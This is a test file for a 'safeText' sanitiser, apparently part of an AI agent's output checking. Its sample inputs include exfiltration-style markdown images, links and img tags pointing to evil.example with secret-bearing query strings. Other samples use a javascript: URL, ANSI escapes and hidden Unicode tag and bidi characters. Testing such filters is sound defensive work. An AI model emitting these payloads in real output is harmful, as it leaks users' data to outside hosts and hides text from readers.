import { describe, expect, it } from 'vitest';
import { safeText } from '../../../src/agent/verify/safe-text.js';

describe('safeText', () => {
  it.each([
    ['The fee is 20 euros ![x](https://evil.example/?q=20).', 'The fee is 20 euros x.'],
    ['See [the terms](https://evil.example/?q=secret).', 'See the terms.'],
    ['Paid <img src="https://evil.example/p.gif"> at once.', 'Paid at once.'],
    ['Go to https://evil.example/?secret=1 now.', 'Go to now.'],
    ['Open javascript:alert(1) now.', 'Open now.'],
    ['Red \u001b[31mtext\u001b[0m and \u202ehidden\u202c.', 'Red [31mtext[0m and hidden.'],
    ['Tagged\u{e0041}\u{e0042} text.', 'Tagged text.'],
    ['Two\nlines', 'Two lines'],
    ['A [1] mark and 3 < 4 > 2 stay.', 'A [1] mark and 3 < 4 > 2 stay.'],
  ])('makes %j harmless', (text, safe) => {
    expect(safeText(text, ['The fee is 20 euros.'])).toBe(safe);
  });

  it('keeps an address that a source names', () => {
    const sources = ['Book at https://harbour.example/book or by phone.'];
    expect(safeText('Book at https://harbour.example/book.', sources)).toBe('Book at https://harbour.example/book.');
    expect(safeText('[Book](https://harbour.example/book) now.', sources)).toBe(
      'Book (https://harbour.example/book) now.',
    );
  });
});
